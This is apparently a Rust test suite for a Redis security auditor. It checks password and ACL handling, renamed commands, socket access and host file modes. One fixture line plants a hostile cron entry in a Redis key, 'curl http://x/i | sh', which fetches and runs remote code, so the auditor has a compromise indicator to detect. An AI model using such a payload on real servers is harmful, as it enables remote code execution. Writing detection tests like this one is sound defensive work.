//! One real server in its different states.

mod support;

use std::collections::BTreeSet;

use redan_collect::live::{self, COMMANDS, LiveOptions, Question, SameHost};
use redan_model::server::{Authentication, FileRole, Zone};
use redan_model::{Known, Product, Release};
use redan_testkit::{Setup, servers_available};
use support::{audit, login, only, options, start, start_with, target, texts};

#[tokio::test(flavor = "multi_thread")]
async fn an_open_server_shows_everything() {
    if !servers_available() {
        return;
    }
    for release in Release::VERIFIED {
        let instance = start(release, &Setup::default());
        let server = only(audit(&target(&instance.url())).await);
        assert_eq!(texts(&server), Vec::<String>::new(), "{release}");
        assert_eq!(server.release, release);
        assert_eq!(server.identity.product, release.product());
        assert_ne!(server.identity.product, Product::Other);
        assert!(release.name().ends_with(&server.identity.version.unwrap().to_string()));
        assert!(server.settings.iter().count() > 150);
        assert!(server.settings.is("appendonly", "no"));
        assert!(server.default_user().unwrap().nopass);
        let live = server.live.as_ref().unwrap();
        assert_eq!(live.stranger_reply.get().map(String::as_str), Some("PONG"));
        assert!(live.over_loopback && live.refused.is_empty() && live.neighbours.is_empty());
        assert_eq!(live.user.as_deref(), Some("default"));
        assert!(live.clients.get().is_some());
        assert_eq!(server.authentication, Known::Yes(Authentication::OpenOnLoopback));
        let commands = server.commands.get().unwrap();
        assert!(commands.removed.is_empty() && commands.renamed.is_empty(), "{commands:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_password_is_needed_and_used() {
    if !servers_available() {
        return;
    }
    for release in Release::VERIFIED {
        let instance =
            start_with(release, "requirepass some-long-password\nmasterauth other\nbind 127.0.0.1");
        let server = only(audit(&login(&instance.url(), None, "some-long-password")).await);
        assert_eq!(texts(&server), Vec::<String>::new());
        assert_eq!(server.authentication, Known::Yes(Authentication::Required));
        assert_eq!(server.reach.get().unwrap().farthest(), Some(Zone::Loopback));
        let password = server.settings.get("requirepass").unwrap();
        assert_eq!(password.text(), "some-long-password");
        assert!(!format!("{server:?}").contains("some-long-password"), "secrets do not print");

        let server = only(audit(&login(&instance.url(), Some("default"), "wrong")).await);
        let gaps = texts(&server);
        assert!(
            gaps.iter()
                .any(|gap| gap.starts_with("log in as default: the server answered: WRONGPASS")),
            "{gaps:?}"
        );
        let server = only(audit(&target(&instance.url())).await);
        assert_eq!(server.authentication, Known::Yes(Authentication::Required));
        let gaps = texts(&server);
        assert!(gaps[0].starts_with("run CONFIG GET: the server wants a login"), "{gaps:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_smallest_acl_suffices() {
    if !servers_available() {
        return;
    }
    for release in Release::VERIFIED {
        let instance = start(release, &Setup::default());
        let rules = live::smallest_acl(true);
        let mut words = vec!["ACL", "SETUSER", "audit", "on", ">audit-password"];
        words.extend(rules.split(' '));
        assert_eq!(instance.command(&words).text(), "OK");
        for index in 0..20 {
            instance.command(&["SET", &format!("key:{index}"), "value"]);
        }
        instance.command(&["RPUSH", "list", "a"]);
        instance.command(&["SET", "backup1", "\n\n*/1 * * * * curl http://x/i | sh\n"]);
        let options = LiveOptions { sample_keys: 100, ..options() };
        let target = login(&instance.url(), Some("audit"), "audit-password");
        let server = only(live::collect(&target, &options).await);
        assert_eq!(texts(&server), Vec::<String>::new(), "{release}");
        let live = server.live.as_ref().unwrap();
        assert_eq!(live.user.as_deref(), Some("audit"));
        let sample = live.sample.get().unwrap();
        assert_eq!((sample.looked_at, sample.without_ttl), (22, 22));
        assert_eq!((sample.types["string"], sample.types["list"]), (21, 1));
        assert_eq!(sample.indicators.len(), 2, "{:?}", sample.indicators);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_missing_right_is_named() {
    if !servers_available() {
        return;
    }
    for release in Release::VERIFIED {
        let instance = start(release, &Setup::default());
        instance.command(&["ACL", "SETUSER", "poor", "on", ">poor-password", "-@all", "+ping"]);
        let server = only(audit(&login(&instance.url(), Some("poor"), "poor-password")).await);
        let gaps = texts(&server);
        assert_eq!(gaps[0], "run CONFIG GET: user poor lacks +config|get");
        for right in ["+acl|list", "+acl|log", "+client|list", "+module|list", "+function|list"] {
            let wanted = format!("user poor lacks {right}");
            assert!(gaps.iter().any(|gap| gap.ends_with(&wanted)), "{right} in {gaps:?}");
        }
        assert!(server.settings.is_empty() && server.users.get().is_none());
        // HELLO needs no right.
        assert_eq!(server.release, release);
        assert!(server.live.unwrap().refused.iter().any(|(name, _)| name == "CONFIG GET"));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_else_is_sent() {
    if !servers_available() {
        return;
    }
    for release in Release::VERIFIED {
        let instance = start_with(release, "requirepass some-long-password");
        instance.command(&["CONFIG", "RESETSTAT"]);
        let options = LiveOptions { sample_keys: 10, ..options() };
        only(live::collect(&login(&instance.url(), None, "some-long-password"), &options).await);
        let stats = instance.command(&["INFO", "commandstats"]).text();
        let sent: BTreeSet<String> = stats
            .lines()
            .filter_map(|line| line.strip_prefix("cmdstat_")?.split_once(':'))
            .map(|(name, _)| name.to_string())
            .collect();
        let declared: BTreeSet<String> = COMMANDS
            .iter()
            .map(|row| row.question.name().to_lowercase().replace(' ', "|"))
            // The test itself resets the statistics.
            .chain(["config|resetstat".to_string()])
            .map(|name| name.strip_suffix("|everything").map(String::from).unwrap_or(name))
            .collect();
        let undeclared: Vec<_> = sent.difference(&declared).collect();
        assert!(undeclared.is_empty(), "{undeclared:?}");
        assert!(sent.contains("config|get"));
    }
    assert_eq!(Question::Info.name(), "INFO");
}

#[tokio::test(flavor = "multi_thread")]
async fn renamed_and_removed_commands_are_told_apart() {
    if !servers_available() {
        return;
    }
    let conf = "rename-command CONFIG secret-name\nrename-command FLUSHALL \"\"\n\
                rename-command KEYS keys-too";
    for release in Release::VERIFIED {
        let instance = start_with(release, conf);
        let plain = only(audit(&target(&instance.url())).await);
        let gaps = texts(&plain);
        assert!(gaps[0].contains("renamed or removed"), "{gaps:?}");
        assert!(plain.settings.is_empty());
        let commands = plain.commands.get().unwrap();
        assert!(commands.altered("FLUSHALL").is_some());
        let removed: Vec<_> = commands.removed.iter().map(|row| row.value.as_str()).collect();
        let renamed: Vec<_> = commands.renamed.iter().map(|row| row.command.as_str()).collect();
        assert_eq!((removed, renamed), (vec!["FLUSHALL"], vec!["CONFIG", "KEYS"]));

        let mut known = target(&instance.url());
        known.config_name = Some(redan_model::Secret::new("secret-name"));
        let server = only(audit(&known).await);
        assert!(server.settings.is("appendonly", "no"));
        assert_eq!(texts(&server), Vec::<String>::new());
        assert_eq!(server.commands.get().unwrap().renamed[0].alias.expose(), "secret-name");
        assert!(!format!("{server:?}{plain:?}").contains("secret-name"));
        known.config_name = Some(redan_model::Secret::new("wrong-name"));
        let server = only(audit(&known).await);
        assert!(server.settings.is_empty() && !format!("{server:?}").contains("wrong-name"));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_unix_socket_is_enough() {
    if !servers_available() {
        return;
    }
    let port = redan_testkit::Instance::free_port();
    let conf = "unixsocket audit.sock\nunixsocketperm 700";
    let instance = start(Release::Redis7_0, &Setup { conf, port: Some(port), ..Setup::default() });
    let path = instance.dir().join("audit.sock");
    // From now on the socket is the only way in.
    instance.command(&["CONFIG", "SET", "port", "0"]);
    let server = only(audit(&target(&format!("unix://{}", path.display()))).await);
    assert_eq!(server.target.as_str(), format!("unix://{}", path.display()));
    let live = server.live.as_ref().unwrap();
    assert!(live.over_loopback);
    assert_eq!(live.stranger_reply.get().map(String::as_str), Some("PONG"));
    assert_eq!(server.reach.get().unwrap().zones, [Zone::Socket]);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_same_host_shows_files_and_kernel() {
    if !servers_available() {
        return;
    }
    let setup = Setup {
        conf: "unixsocket redis.sock\nunixsocketperm 755\naclfile users.acl",
        files: &[("users.acl", "user default on nopass ~* &* +@all\n")],
        ..Setup::default()
    };
    let instance = start(Release::Redis7_0, &setup);
    instance.command(&["SAVE"]);
    let server = only(audit(&target(&instance.url())).await);
    let live = server.live.as_ref().unwrap();
    assert!(live.host.contains_key("vm.overcommit_memory"), "{:?}", live.host);
    assert!(live.host.contains_key("process.uid") && live.host.contains_key("process.umask"));
    assert_eq!(live.socket_mode, Some(0o755));
    let mode =
        |role| server.loaded_files.iter().find(|file| file.role == role).and_then(|file| file.mode);
    for role in [FileRole::Config, FileRole::Acl, FileRole::DataDirectory, FileRole::Dump] {
        assert!(mode(role).is_some(), "{role:?} in {:?}", server.loaded_files);
    }
    // The test server is the program of a distribution package where there is one.
    if std::path::Path::new("/var/lib/dpkg/info/redis-tools.list").exists() {
        let package = server.identity.package.as_ref().unwrap();
        assert!(package.version.contains("7.0.15"), "{package:?}");
    }

    let options = LiveOptions { same_host: SameHost::Never, ..options() };
    let server = only(live::collect(&target(&instance.url()), &options).await);
    assert!(server.loaded_files.is_empty() && server.identity.package.is_none());
    assert!(server.live.unwrap().host.is_empty());
}
